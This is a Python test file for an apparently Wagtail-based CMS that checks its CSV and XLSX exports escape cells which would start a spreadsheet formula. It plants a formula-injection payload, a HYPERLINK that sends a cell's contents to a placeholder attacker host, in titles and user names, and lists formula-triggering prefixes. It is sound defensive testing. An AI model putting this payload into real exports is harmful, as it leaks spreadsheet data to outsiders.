"""No spreadsheet that leaves the CMS holds a formula."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect

from articles.models import ArticlePage
from core.exports import STARTS_A_FORMULA, harmless
from tests.accounts import matrix

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "start", [*"=+-@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "−", " =", "\ufeff=", "\u200b@"]
)
def test_what_a_spreadsheet_would_work_out_is_text(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "cell", ["", "Ada = Lovelace", "a-b", "2031-01-02", "Олена", "1", "'tis", 5, -5, 2.5, None]
)
def test_what_it_would_not_is_left_alone(cell: Any) -> None:
    assert harmless(cell) == cell


def cells(response: Any) -> list[str]:
    """All cells of an export, its headings first."""
    content = response.getvalue()
    if response["Content-Type"] == "text/csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    rows = load_workbook(io.BytesIO(content)).active.iter_rows()
    found = [cell for row in rows for cell in row]
    assert not [cell for cell in found if cell.data_type == "f"]
    return [str(cell.value or "") for cell in found]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_export_of_the_cms_begins_a_cell_as_a_formula(
    content: None, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever view offers one: each is asked."""
    cast = matrix.Cast()
    page = ArticlePage.objects.first()
    page.title = FORMULA
    page.save()
    page.save_revision(user=cast.people["E"], log_action=True)
    page.locked, page.locked_by, page.owner = True, cast.people["E"], cast.people["E"]
    page.save()
    Redirect.objects.create(old_path="/=1+1", redirect_link="=1+1")
    for user in cast.people.values():
        if user is not None:
            type(user).objects.filter(pk=user.pk).update(display_name=FORMULA)
    browser = matrix.logged_in(cast.people["R"])
    seen = {}
    for route in matrix.routes():
        if not route.startswith("cms/"):
            continue
        address = matrix.address(route, cast)
        joined = "&" if "?" in address else "?"
        response = browser.get(f"{address}{joined}export={form}")
        if response.streaming and response.get("Content-Type", "").endswith(("csv", "sheet")):
            seen[route] = cells(response)
        elif response.streaming:
            response.getvalue()
    assert len(seen) > 8
    assert any(FORMULA in cell for cells in seen.values() for cell in cells)
    wrong = [
        (route, cell) for route, found in seen.items() for cell in found if cell.startswith(STARTS_A_FORMULA)
    ]
    assert not wrong


def test_a_part_of_a_cell_is_no_cell_where_semicolons_part_them(content: None) -> None:
    Redirect.objects.create(old_path="/x", redirect_link="x;=1+1")
    browser: Client = matrix.logged_in(matrix.Cast().people["R"])
    response = browser.get("/cms/redirects/?export=csv")
    assert b'"x;=1+1"' in b"".join(response.streaming_content)  # type: ignore[attr-defined]
